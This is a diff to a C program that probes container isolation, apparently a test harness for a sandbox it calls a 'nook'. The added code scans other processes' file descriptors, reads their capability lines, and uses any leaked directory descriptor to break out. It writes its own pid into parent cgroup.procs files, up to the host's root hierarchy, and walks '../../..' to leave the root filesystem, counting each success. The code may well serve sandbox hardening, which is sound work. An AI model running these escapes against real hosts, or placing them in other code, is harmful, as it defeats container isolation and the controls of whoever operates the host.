@@ -36,7 +36,7 @@
 
 static struct { pid_t pid; int opath; } held[MAXP];
 static int nheld;
-static int nook_seen, write_ok, ptrace_ok, vmread_ok, hostfd;
+static int nook_seen, write_ok, ptrace_ok, vmread_ok, hostfd, escape_ok;
 static pid_t seen[4096];
 static int nseen;
 
@@ -85,11 +85,60 @@ static void attack_open(const char *path, const char *tag)
 		close(fd);
 }
 
+/*
+ * What a leaked fd gives: a directory fd is a way out of the rootfs ("..") and, for a cgroup
+ * directory of the host's hierarchy, out of the container's cgroup: write our own pid into the
+ * cgroup.procs of its parents (the root of the host's hierarchy last).
+ */
+static void use_fd(const char *fp)
+{
+	int d = open(fp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	if (d < 0)
+		return;
+	char l[4096], pp[64];
+	const char *ups[] = { "../cgroup.procs", "../../cgroup.procs", "../../../cgroup.procs" };
+	for (size_t i = 0; i < 3; i++) {
+		int c = openat(d, ups[i], O_WRONLY | O_CLOEXEC);
+		if (c < 0)
+			continue;
+		char pid[32];
+		int n = snprintf(pid, sizeof(pid), "%d\n", getpid());
+		int ok = write(c, pid, (size_t)n) == n;
+		printf("    escape via fd: write own pid to %s: %s\n", ups[i], err(ok));
+		if (ok)
+			escape_ok++;
+		close(c);
+	}
+	int up = openat(d, "../../..", O_PATH | O_CLOEXEC);
+	if (up >= 0) {
+		snprintf(pp, sizeof(pp), "/proc/self/fd/%d", up);
+		ssize_t n = readlink(pp, l, sizeof(l) - 1);
+		l[n > 0 ? n : 0] = '\0';
+		printf("    ../../.. of it: %s\n", l);
+		close(up);
+	}
+	close(d);
+}
+
+static void status_caps(pid_t pid)
+{
+	char p[64], line[256];
+	snprintf(p, sizeof(p), "/proc/%d/status", pid);
+	FILE *f = fopen(p, "re");
+	if (!f)
+		return;
+	while (fgets(line, sizeof(line), f))
+		if (!strncmp(line, "Cap", 3))
+			printf("  %s", line);
+	fclose(f);
+}
+
 static void inspect(pid_t pid, const char *exe)
 {
 	char p[128], l[4096];
 	nook_seen++;
 	printf("pid %d exe %s\n", pid, exe);
+	status_caps(pid);
 	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
 	DIR *d = opendir(p);
 	if (d) {
@@ -102,8 +151,10 @@ static void inspect(pid_t pid, const char *exe)
 			ssize_t n = readlink(fp, l, sizeof(l) - 1);
 			l[n > 0 ? n : 0] = '\0';
 			printf("  fd %s -> %s\n", e->d_name, l);
-			if (atoi(e->d_name) > 2)
+			if (atoi(e->d_name) > 2) {
 				hostfd++;
+				use_fd(fp);
+			}
 		}
 		closedir(d);
 	} else {
@@ -202,7 +253,7 @@ int main(int argc, char **argv)
 		snprintf(tag, sizeof(tag), "reopen(pid %d)", held[i].pid);
 		attack_open(p, tag);
 	}
-	printf("SUMMARY nook_seen=%d write_ok=%d ptrace_ok=%d vmread_ok=%d hostfd=%d\n", nook_seen,
-	       write_ok, ptrace_ok, vmread_ok, hostfd);
+	printf("SUMMARY nook_seen=%d write_ok=%d ptrace_ok=%d vmread_ok=%d hostfd=%d escape_ok=%d\n",
+	       nook_seen, write_ok, ptrace_ok, vmread_ok, hostfd, escape_ok);
 	return 0;
 }
